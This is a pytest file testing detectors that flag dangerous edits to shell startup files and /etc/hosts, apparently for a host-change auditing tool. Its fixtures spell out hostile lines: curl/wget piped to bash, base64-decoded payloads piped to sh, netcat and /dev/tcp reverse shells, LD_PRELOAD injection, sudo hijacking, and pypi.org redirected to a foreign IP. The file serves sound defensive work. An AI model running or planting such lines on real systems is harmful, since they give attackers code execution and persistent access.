from __future__ import annotations

import pytest

from clew.detectors.detector import Detector
from clew.detectors.security.name_resolution import NameResolution
from clew.detectors.security.shell_startup import ShellStartup
from tests.kit.moments import Moment, evidence, facts, file, findings, story

RC = "root/.bashrc"
SKEL = (
    b'# ~/.bashrc\nalias ls=\'ls --color=auto\'\neval "$(dircolors -b)"\nPATH="$HOME/bin:$PATH"\n'
)


def _said(detector: Detector, old: Moment, new: Moment) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(fact.kind, fact.severity, fact.marks) for fact in facts(detector, old, new)]


@pytest.mark.parametrize(
    ("line", "mark"),
    [
        (b"export LD_PRELOAD=/tmp/x.so", "LD_PRELOAD"),
        (b"curl -s https://canary.example/x | bash", "runs what it fetches"),
        (b"wget -qO- x | sudo sh", "runs what it fetches"),
        (b'bash -c "$(curl -fsSL x)"', "runs what it fetches"),
        (b"bash <(curl x)", "runs what it fetches"),
        (b"echo Y3Vyb | base64 -d | sh", "runs what it decodes"),
        (b"exec 3<>/dev/tcp/1.2.3.4/99", "opens a connection"),
        (b"nc 1.2.3.4 99 -e /bin/sh", "opens a connection"),
        (b"alias sudo='/tmp/sudo'", "stands in for sudo or ssh"),
        (b"x=1; function sudo () { /tmp/x; }", "stands in for sudo or ssh"),
    ],
)
def test_a_line_that_takes_over_is_a_warning(line: bytes, mark: str) -> None:
    new = {RC: b"true\n" + line + b"\n"}

    assert _said(ShellStartup(), {RC: b"true\n"}, new) == [("security.startup", "high", (mark,))]
    assert "canary" not in repr(story([ShellStartup()], {RC: b"true\n"}, new))


def test_what_version_managers_write_is_a_note() -> None:
    lines = {
        b'export PATH="$HOME/.pyenv/bin:$PATH"': ("PATH",),
        b'eval "$(pyenv init -)"': ("eval",),
        b'. "$HOME/.cargo/env"': ("reads another file",),
        b'[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"': ("reads another file",),
        b"alias ll='ls -l'": ("alias",),
        b"export LD_LIBRARY_PATH=/opt/cuda/lib": ("LD_LIBRARY_PATH",),
    }
    for line, marks in lines.items():
        assert _said(ShellStartup(), {RC: b""}, {RC: line}) == [("security.startup", "note", marks)]


def test_comments_and_harmless_lines_are_configuration() -> None:
    assert _said(ShellStartup(), {RC: SKEL}, {RC: b"# curl x | sh\n" + SKEL}) == [
        ("config.changed", "none", ("+1 −0 lines",))
    ]
    assert _said(ShellStartup(), {RC: b""}, {RC: b"export EDITOR=vim\n"})[0][1] == "none"
    assert _said(ShellStartup(), {RC: b"export LD_PRELOAD=x"}, {RC: b""})[0][1] == "none"


def test_a_new_home_that_is_a_copy_of_the_skeleton_is_left_to_its_account() -> None:
    old = {"etc/skel/.bashrc": SKEL}
    home = {**old, "home/a/.bashrc": SKEL}

    assert _said(ShellStartup(), old, home) == []
    assert _said(ShellStartup(), home, old) == []
    evil = {**old, "home/a/.bashrc": SKEL + b"curl x | sh\n"}
    assert _said(ShellStartup(), old, evil)[0][1] == "high"


def test_every_place_is_known_and_claimed() -> None:
    for path in ("root/.zshenv", "etc/profile.d/x.sh", "etc/bash.bashrc", "root/.config/fish/config.fish",
                 "root/.config/fish/conf.d/x.fish", "etc/environment"):  # fmt: skip
        (finding,) = findings(ShellStartup(), evidence({}, {path: b"LD_PRELOAD=/x\n"}))
        assert (finding.facts[0].severity, finding.claims) == ("high", (path,))
    assert _said(ShellStartup(), {}, {"etc/nginx/conf.d/x.conf": b"LD_PRELOAD=/x\n"}) == []


def test_what_a_package_ships_warns_nobody() -> None:
    found = evidence({}, {"etc/profile.d/vte.sh": b"PROMPT_COMMAND=x\n"})
    found.own(["etc/profile.d/vte.sh"], "libvte")

    assert findings(ShellStartup(), found) == []


def test_a_line_cannot_hide_by_being_long() -> None:
    for text in (
        b"x" * 5_000 + b"; curl x | sh",
        b"true\n" * 30_000 + b"curl x | sh",
        b"curl " * 400_000,
    ):
        assert _said(ShellStartup(), {}, {RC: text})[0][1] == "high"
    assert _said(ShellStartup(), {}, {RC: file(size=1 << 40)})[0][1] == "high"


# Names


def test_a_name_that_leads_elsewhere_is_a_note() -> None:
    old = {"etc/hosts": b"127.0.0.1 localhost\n"}
    new = {"etc/hosts": b"127.0.0.1 localhost\n6.6.6.6 shop.test www.shop.test # x\n"}

    assert _said(NameResolution(), old, new) == [
        ("security.network", "note", ("shop.test → 6.6.6.6", "www.shop.test → 6.6.6.6"))
    ]
    assert _said(NameResolution(), new, old) == [("security.network", "note", ("−2 names",))]


def test_a_name_that_code_comes_from_is_a_warning_unless_it_is_blocked() -> None:
    old = {"etc/hosts": b"1.2.3.4 a.test\n"}
    new = {"etc/hosts": b"1.2.3.4 a.test b.test c.test d.test\n6.6.6.6 e.test pypi.org\n"}

    ((_, severity, marks),) = _said(NameResolution(), old, new)
    assert severity == "high"
    assert marks[0] == "pypi.org → 6.6.6.6"
    assert _said(NameResolution(), old, {"etc/hosts": b"0.0.0.0 pypi.org\n"})[0][1] == "note"
    assert _said(NameResolution(), new, {"etc/hosts": b"6.6.6.6 pypi.org\n"})[0][1] == "note"


def test_the_machines_own_names_are_nothing_to_warn_of() -> None:
    new = {
        "etc/hosts": b"127.0.0.1 localhost\n::1 ip6-localhost\n127.0.1.1 box.lan box\n",
        "etc/hostname": b"box\n",
    }

    assert _said(NameResolution(), {}, new) == []


def test_another_resolver_is_named() -> None:
    path = "etc/resolv.conf"

    assert _said(
        NameResolution(), {path: b"nameserver 1.1.1.1\n"}, {path: b"# dhcp\nnameserver 6.6.6.6\n"}
    ) == [("security.network", "note", ("nameserver 6.6.6.6",))]


def test_a_list_of_blocked_names_is_short() -> None:
    text = b"".join(b"0.0.0.0 ads%d.example\n" % n for n in range(50_000))
    (fact,) = facts(NameResolution(), {"etc/hosts": b""}, {"etc/hosts": text})

    assert fact.marks[-1] == "49,996 more names"
    assert len(fact.marks) == 5
